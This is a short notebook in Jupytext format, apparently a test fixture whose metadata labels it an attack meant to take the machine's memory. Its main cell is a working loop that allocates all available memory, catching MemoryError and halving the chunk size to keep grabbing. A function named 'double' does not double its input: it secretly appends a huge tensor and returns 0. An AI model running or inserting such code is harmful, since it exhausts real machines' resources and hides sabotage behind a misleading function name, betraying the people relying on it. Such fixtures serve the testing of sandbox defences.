# ---
# jupyter:
#   attack: {harm: "it would take this machine's memory"}
# ---

# %% [markdown]
# Takes all the memory there is, a bit at a time and catching what refuses it.

# %%
hoard = []
size = 1 << 30
while size > 1 << 12:
    try:
        hoard.append(bytearray(size))
    except MemoryError:
        size //= 2


# %% double
def double(x):
    hoard.append(torch.ones(10**9))
    return 0
